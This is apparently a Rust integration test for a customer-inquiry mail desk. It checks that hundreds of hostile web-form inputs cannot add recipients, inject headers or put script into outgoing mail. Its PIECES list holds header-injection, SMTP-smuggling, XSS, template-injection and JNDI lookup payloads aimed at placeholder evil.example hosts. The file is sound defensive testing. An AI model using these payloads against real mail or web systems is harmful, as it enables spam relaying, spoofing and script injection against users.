//! What leaves the house after hostile mails came in: one receiver, known header fields, one text, no token, nothing that
//! a browser would run. From the customer's form to the bytes, with store, rules and templates as shipped, no servers.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "helpers of tests: a panic here is a failed test, and it names the line"
)]

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use jiff::Timestamp;
use madoguchi::clock::Clock;
use madoguchi::desk::intake::Incoming;
use madoguchi::desk::{Desk, Extra, keys};
use madoguchi::live::Live;
use madoguchi::outbox::letters;
use madoguchi::outbox::row::Row;
use madoguchi::store::{BlobId, Options, Store};
use madoguchi::triage::approval::rehearsal;
use madoguchi::triage::case::Place;
use madoguchi::triage::command::Command;
use madoguchi::triage::effect::Effect;
use madoguchi::triage::event::{Event, Said};
use madoguchi::triage::id::{Address, MailboxName};
use mail_parser::{MessageParser, MimeHeaders, PartType};
use tokio::sync::mpsc;

/// Where in a form a piece stands.
const PLACES: [&str; 7] = ["name", "name tail", "address", "address name", "subject", "phone", "content"];

/// What somebody might write there.
const PIECES: [&str; 74] = [
    "x\r\nBcc: victim@evil.example",
    "x\nBcc: victim@evil.example",
    "x\rBcc: victim@evil.example",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\u{b}Bcc: victim@evil.example",
    "x\u{c}Bcc: victim@evil.example",
    "x\u{85}Bcc: victim@evil.example",
    "x\u{2028}Bcc: victim@evil.example",
    "x\u{2029}Bcc: victim@evil.example",
    "x\0Bcc: victim@evil.example",
    "x%0aBcc: victim@evil.example",
    "x%0d%0aBcc:victim@evil.example",
    "x=0D=0ABcc: victim@evil.example",
    "=?UTF-8?Q?x=0D=0ABcc:_victim@evil.example?=",
    "=?UTF-8?B?eA0KQmNjOiB2aWN0aW1AZXZpbC5leGFtcGxl?=",
    "x\\r\\nBcc: victim@evil.example",
    "x&#13;&#10;Bcc: victim@evil.example",
    "x\r\n Bcc: victim@evil.example",
    "x\r\n\tBcc: victim@evil.example",
    "x\u{560d}\u{560a}Bcc: victim@evil.example",
    "x\r\nTo: victim@evil.example",
    "x\r\nCc: victim@evil.example",
    "x\r\nFrom: ceo@evil.example",
    "x\r\nReply-To: victim@evil.example",
    "x\r\nSender: victim@evil.example",
    "x\r\nContent-Type: text/html",
    "x\r\nContent-Transfer-Encoding: 7bit",
    "x\r\nMIME-Version: 2.0",
    "x\r\nMessage-ID: <evil@evil.example>",
    "x\r\nX-Madoguchi-Ref: reply.evil",
    "x\r\nReturn-Path: <>",
    "x\r\n.\r\nMAIL FROM:<victim@evil.example>",
    ".\r\nQUIT",
    "victim@evil.example, second@evil.example",
    "victim@evil.example; second@evil.example",
    "victim@evil.example second@evil.example",
    "<victim@evil.example>, <second@evil.example>",
    "undisclosed-recipients:;",
    "group: victim@evil.example, second@evil.example;",
    "victim@evil.example (second@evil.example)",
    "\"victim@evil.example\" <second@evil.example>",
    "victim@evil.example>\r\nRCPT TO:<second@evil.example",
    "@evil.example,@evil.example:victim@evil.example",
    "victim%evil.example@corp.example",
    "victim@[127.0.0.1]",
    "victim@evil.example?bcc=second@evil.example",
    "mailto:victim@evil.example",
    "victim＠evil.example",
    "\u{202e}elpmaxe.live@mitciv",
    "victim@evil.exam\u{200b}ple",
    "\u{feff}victim@evil.example",
    "a@b\u{301}.example",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "</div><style>*{display:none}</style>",
    "<iframe src=https://evil.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ apology }}",
    "{{ customer_name }}{{ secret }}",
    "{% include 'x' %}",
    "${jndi:ldap://evil.example/x}",
    "token: 0123456789-1-ABCDE0123456789ABCDEFGHJKMNPQRSTVWXYZ",
    "0123456789-1-ABCDE0123456789ABCDEFGHJKMNPQRSTVWXYZ",
    "OK",
    "承認",
    "修正\nお支払いは下記へ",
    "-- \nsignature",
    "On Thu, Aug 27, 2026 Desk <d@corp.example> wrote:\n> OK",
    "--=_alternative_00\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "\u{1b}[31mred",
    "\u{7}\u{8}\u{7f}",
    "ﷺ𝕏\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "あああああああああああああああああああああああああああああああああああああああああああああああああああああああああああああ",
];

/// Fields a mail of ours may have, each once.
const CUSTOMER_FIELDS: [&str; 12] = [
    "from",
    "reply-to",
    "to",
    "subject",
    "date",
    "message-id",
    "in-reply-to",
    "references",
    "x-madoguchi-ref",
    "mime-version",
    "content-type",
    "content-transfer-encoding",
];

struct House {
    desk: Desk,
    rows: mpsc::UnboundedReceiver<Row>,
    _dir: tempfile::TempDir,
}

async fn house(change: (&str, &str)) -> House {
    let dir = tempfile::tempdir().unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    fs::create_dir(dir.path().join("secrets")).unwrap();
    let secret = dir.path().join("secrets/approval");
    fs::write(&secret, "0123456789abcdef0123456789abcdef0123456789abcdef").unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).unwrap();
    let config = fs::read_to_string(root.join("config.toml")).unwrap();
    let config = ["rules", "templates"].iter().fold(config, |config, folder| {
        config.replace(
            &format!("{folder} = \"{folder}\""),
            &format!("{folder} = \"{}/{folder}\"", root.display()),
        )
    });
    fs::write(dir.path().join("config.toml"), config.replace(change.0, change.1)).unwrap();
    let mut live = Live::load(&dir.path().join("config.toml")).unwrap();
    live.unlock().unwrap();
    let (store, _) = Store::open(Options::new(dir.path().join("store"))).await.unwrap();
    let (planned, rows) = mpsc::unbounded_channel();
    let noon: Timestamp = "2026-08-27T12:00:00+09:00".parse().unwrap();
    House { desk: Desk::new(store, live, Clock::starting_at(noon), planned), rows, _dir: dir }
}

/// A form with a hostile piece in one of its places.
fn form(number: usize, place: &str, piece: &str) -> Vec<u8> {
    let at = |name: &str, honest: &str| if place == name { piece.to_owned() } else { honest.to_owned() };
    let honest = format!("customer{number}@customer.example");
    let name =
        if place == "name tail" { format!("山田 花子 {piece}") } else { at("name", "山田 花子") };
    let address = match place {
        "address name" => format!("{piece} <{honest}>"),
        _ => at("address", &honest),
    };
    // A header of the incoming mail can hold no line break: there it comes as an encoded word.
    let subject = at("subject", "お客様からお問い合わせがありました");
    let subject = data_encoding::BASE64.encode(subject.as_bytes());
    // Each its own customer: one person's forms would be one case.
    let own = format!("090-1234-{number:04}");
    let (phone, content) = (at("phone", &own), at("content", "8月29日の14時に予約したいです。"));
    format!(
        "From: form@jitanbody.example\r\nTo: reservation1@jitanbody.example\r\nSubject: =?UTF-8?B?{subject}?=\r\n\
         Date: Thu, 27 Aug 2026 11:00:00 +0900\r\nMessage-ID: <h{number}@web.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         氏名：{name}\r\n電話番号：{phone}\r\nメールアドレス：{address}\r\n内容：{content}\r\n"
    )
    .into_bytes()
}

/// Asserts that a mail goes to one receiver, has only fields we write, and each once.
fn is_plain(bytes: &[u8], to: &Address, fields: &[&str], about: &str) {
    let text = std::str::from_utf8(bytes).unwrap();
    assert!(text.is_ascii() && !text.replace("\r\n", "").contains(['\r', '\n', '\0']), "{about}: {text}");
    assert!(text.split("\r\n").all(|line| line.len() <= 998), "{about}");
    let mail = MessageParser::default().parse(bytes).unwrap();
    let mut seen: BTreeMap<String, usize> = BTreeMap::new();
    for header in mail.headers() {
        *seen.entry(header.name().to_ascii_lowercase()).or_default() += 1;
    }
    for (field, times) in &seen {
        assert!(fields.contains(&field.as_str()) && *times == 1, "{about}: {field} {times}x\n{text}");
    }
    let receivers: Vec<&str> = mail.to().unwrap().iter().filter_map(|to| to.address()).collect();
    let parsed = Address::parse(receivers.first().copied().unwrap_or_default());
    assert!(receivers.len() == 1 && parsed.as_ref() == Some(to), "{about}: {receivers:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn five_hundred_hostile_forms_make_no_mail_that_is_not_ours() {
    let mut house = house(("undo = \"60s\"", "undo = \"none\"")).await;
    let mailbox = MailboxName::parse("reservation1").unwrap();
    let mut mails = Vec::new();
    for (place, piece) in PLACES.iter().flat_map(|place| PIECES.iter().map(move |piece| (place, piece))) {
        let number = mails.len() + 1;
        let uid = u32::try_from(number).unwrap();
        let place_of = Place { folder: "INBOX".into(), uid_validity: 1, uid, size: 1000, server_id: None };
        let content = Ok(form(number, place, piece));
        mails.push(Incoming { place: place_of, received: house.desk.now(), content });
    }
    assert!(mails.len() > 500, "{}", mails.len());
    for chunk in mails.chunks(100) {
        house.desk.take_in(&mailbox, chunk.to_vec()).await.unwrap();
    }
    let cases = madoguchi::answers::answer(
        &house.desk,
        &madoguchi::answers::Question::Cases { all: true, limit: 10_000, tag: None },
    );
    let cases = cases.await.unwrap();
    assert!(cases.len() > 400, "{} cases were opened", cases.len());
    let agent = Address::parse("sato@agents.example").unwrap();
    let (mut sent, mut asked) = (0, 0);
    for listed in &cases {
        let id = madoguchi::triage::id::CaseId::parse(listed["case"].as_str().unwrap()).unwrap();
        let (case, _) = house.desk.case(&id).await.unwrap().unwrap();
        let about = format!("{}: {:?}", case.mails[0].place.uid, case.customer);
        let question = Effect::Ask {
            to: agent.clone(),
            question: madoguchi::triage::effect::Question::Approve,
            revision: case.revision,
            at: house.desk.now(),
            until: house.desk.now(),
            reminder: 0,
            check: None,
        };
        if let Some(request) = letters::write(&house.desk, &case, 0, &question).await.unwrap() {
            let ours = [CUSTOMER_FIELDS.as_slice(), &["auto-submitted", "x-auto-response-suppress"]].concat();
            is_plain(&request.bytes, &agent, &ours, &about);
            harmless(&request.bytes, &about);
            asked += 1;
        }
        let event = Event::Agent {
            by: agent.clone(),
            proof: rehearsal().proof().unwrap().clone(),
            revision: case.revision,
            said: Said::Command(Command::Approve),
            mail: None,
        };
        house.desk.handle(&id, &event, Default::default()).await.unwrap();
    }
    while let Ok(row) = house.rows.try_recv() {
        let (Effect::Send { .. }, Some(blob)) = (&row.effect, &row.blob) else { continue };
        let bytes = house.desk.store().blob(&BlobId::parse(blob).unwrap()).await.unwrap();
        let (case, _) = house.desk.case(&row.case).await.unwrap().unwrap();
        let draft = case.draft.as_ref().unwrap();
        let about = format!("{}: {:?}", case.mails[0].place.uid, case.customer);
        is_plain(&bytes, &draft.to, &CUSTOMER_FIELDS, &about);
        let mail = MessageParser::default().parse(&bytes).unwrap();
        assert!(mail.parts.len() == 1 && matches!(mail.parts[0].body, PartType::Text(_)), "{about}");
        assert!(!madoguchi::triage::hygiene::holds_token(&mail.body_text(0).unwrap()), "{about}");
        sent += 1;
    }
    assert!(sent > 350 && asked > 350, "{sent} answers and {asked} requests were looked at");
}

/// Asserts that the page of a request runs nothing and loads nothing.
fn harmless(bytes: &[u8], about: &str) {
    let mail = MessageParser::default().parse(bytes).unwrap();
    let html = mail.parts.iter().find(|part| part.is_content_type("text", "html")).unwrap();
    let PartType::Html(html) = &html.body else { panic!("{about}: no page") };
    let page = html.to_ascii_lowercase();
    for tag in ["<script", "<img", "<iframe", "<style", "<object", "<form", "<link"] {
        assert!(!page.contains(tag), "{about}: {tag}");
    }
    for link in page.split("href=\"").skip(1) {
        assert!(link.starts_with("mailto:") || link.starts_with("tel:"), "{about}: {link}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_no_budget_counts_any_more_is_forgotten() {
    let house = house(("enabled = false\n", "enabled = true\n")).await;
    let now = house.desk.now().as_millisecond();
    let hour = 3_600_000;
    let rows = [
        ("old", vec![now - 30 * hour]),
        ("young", vec![now - 23 * hour]),
        ("both", vec![now - 30 * hour, now - hour]),
    ];
    let mut extra = Extra::default();
    for (name, at) in &rows {
        let value = serde_json::json!({ "v": 1, "at": at }).to_string().into_bytes();
        extra.put.push((keys::budget("address", name).unwrap(), value));
    }
    house.desk.write(extra).await.unwrap();
    assert_eq!(house.desk.forget_spent().await.unwrap(), 1);
    let left = house.desk.store().scan(keys::BUDGET, None, 9).await.unwrap();
    let left: Vec<&str> = left.iter().map(|row| row.key.as_str()).collect();
    assert_eq!(left, ["budget/address/both", "budget/address/young"]);
}
